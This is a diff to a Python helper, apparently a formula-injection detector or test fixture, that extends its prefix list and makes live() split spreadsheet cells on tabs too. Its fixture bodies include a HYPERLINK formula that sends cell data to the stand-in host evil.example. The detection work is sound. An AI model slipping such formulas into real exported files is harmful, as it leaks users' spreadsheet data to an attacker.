@@ -3,7 +3,7 @@
 import re
 import unicodedata
 
-LEADS = ("", " ", "\u00a0", "\u3000\u2003", "\u200b", "\ufeff", "a\n", "a\r\n ", "a;", "\t")
+LEADS = ("", " ", "\u00a0", "\u3000\u2003", "\u200b", "\ufeff", "a\n", "a\r\n ", "a;", "\t", "a\t")
 SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
 BODIES = (
     'HYPERLINK("http://evil.example/?x="&A1,"x")',
@@ -19,9 +19,9 @@ _NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")
 def live(cell: str) -> list[str]:
     """The stretches of a cell that some spreadsheet would take for a formula.
 
-    A stretch begins with the cell, a line or a semicolon; white space and what cannot be seen is passed over.
+    A stretch begins with the cell, a line, a tab or a semicolon; what cannot be seen is passed over.
     """
-    stretches = re.split(r"[\n\r;]", cell)
+    stretches = re.split(r"[\n\r\t;]", cell)
     return [one for one in stretches if _first(one) in {"=", "+", "-", "@"} and not _NUMBER.fullmatch(cell)]
 
 
